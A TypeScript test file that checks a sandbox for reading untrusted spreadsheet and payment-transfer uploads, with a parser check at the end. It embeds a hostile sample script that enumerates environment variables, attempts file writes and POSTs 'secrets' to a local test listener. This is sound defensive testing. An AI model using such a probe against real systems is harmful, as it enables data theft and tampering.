import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { z } from "zod";
import { readTransfers } from "@/payments/bulk-uploads/transfers";
import { findIsolation } from "@/platform/sandbox/isolation";
import { megabyte, runOnBytes } from "@/platform/sandbox/process";
import { readTable } from "@/platform/spreadsheets/sandbox";

/** Acts that a hostile file could make its reader do. */
const hostile = `
  import { writeFileSync } from "node:fs";
  const outcome = async (act) => { try { await act(); return "done"; } catch (error) { return error.code ?? error.name; } };
  const [folder, url] = process.argv.slice(-2);
  console.log(JSON.stringify({
    environment: Object.keys(process.env).sort(),
    folder: await outcome(() => writeFileSync(folder + "/left-behind", "x")),
    home: await outcome(() => writeFileSync(import.meta.dir + "/left-behind", "x")),
    network: await outcome(() => fetch(url, { method: "POST", body: "secrets" })),
  }));`;
const answerSchema = z.object({
  environment: z.string().array(),
  folder: z.string(),
  home: z.string(),
  network: z.string(),
});

let folder: string;
let reached: number;
let listener: Bun.Server<undefined>;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "vostra-sandbox-"));
  await Bun.write(join(folder, "hostile.ts"), hostile);
  reached = 0;
  listener = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: () => {
      reached++;
      return new Response("thanks");
    },
  });
});
afterAll(async () => {
  rmSync(folder, { recursive: true });
  await listener.stop(true);
});

async function run() {
  const result = await runOnBytes(
    join(folder, "hostile.ts"),
    { args: [folder, String(listener.url)], bytes: new Uint8Array() },
    { milliseconds: 20_000, memory: 512 * megabyte },
  );
  if (!("answer" in result)) throw new Error(result.stopped);
  return answerSchema.parse(result.answer);
}

const isolated = findIsolation().isolation !== "none";
if (!isolated)
  console.log("skipped: what a reader may write and reach, because this system has no namespaces");

describe("a process that reads what a stranger sent", () => {
  test("finds nothing in its environment that is worth taking", async () => {
    process.env.SESSION_SECRET_OF_TEST = "secret";
    const { environment } = await run();
    delete process.env.SESSION_SECRET_OF_TEST;
    expect(
      environment.filter(
        (name) =>
          !/^(?:NODE_ENV|PATH|BUN_JSC_\w+|BUN_RUNTIME_TRANSPILER_CACHE_PATH|PWD|SHLVL|_|OLDPWD)$/.test(name),
      ),
    ).toEqual([]);
  });

  test.skipIf(!isolated)("writes nothing and reaches nobody", async () => {
    const { folder: there, home, network } = await run();
    expect([there, home]).toEqual(["EROFS", "EROFS"]);
    expect(network).not.toBe("done");
    expect(reached).toBe(0);
    expect(existsSync(join(folder, "left-behind"))).toBe(false);
  });

  test("reads a table and a file of transfers all the same", async () => {
    const bytes = (text: string) => new TextEncoder().encode(text);
    const table = await readTable(bytes("a,b\n1,2\n"), { rows: 5, columns: 5 });
    expect(table.rows.map(({ cells }) => cells)).toEqual([
      ["a", "b"],
      ["1", "2"],
    ]);
    const transfer = `<CdtTrfTxInf><PmtId><EndToEndId>E-1</EndToEndId></PmtId><Amt><InstdAmt Ccy="USD">5.00</InstdAmt></Amt>
      <Cdtr><Nm>Heron</Nm></Cdtr><CdtrAcct><Id><IBAN>GB29NWBK60161331926819</IBAN></Id></CdtrAcct></CdtTrfTxInf>`;
    const message = `<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"><CstmrCdtTrfInitn>
      <GrpHdr><MsgId>M-1</MsgId><CreDtTm>2026-11-18T10:00:00</CreDtTm><NbOfTxs>1</NbOfTxs><InitgPty><Nm>Gulf</Nm></InitgPty></GrpHdr>
      <PmtInf><PmtInfId>1</PmtInfId><PmtMtd>TRF</PmtMtd><ReqdExctnDt>2026-11-18</ReqdExctnDt><Dbtr><Nm>Gulf</Nm></Dbtr>
      <DbtrAcct><Id><Othr><Id>12345678</Id></Othr></Id></DbtrAcct><DbtrAgt><FinInstnId/></DbtrAgt>${transfer}</PmtInf></CstmrCdtTrfInitn></Document>`;
    const { readAs, rows } = await readTransfers(bytes(message), new AbortController().signal);
    expect([readAs, rows.length]).toEqual(["pain.001, message M-1", 1]);
  });
});
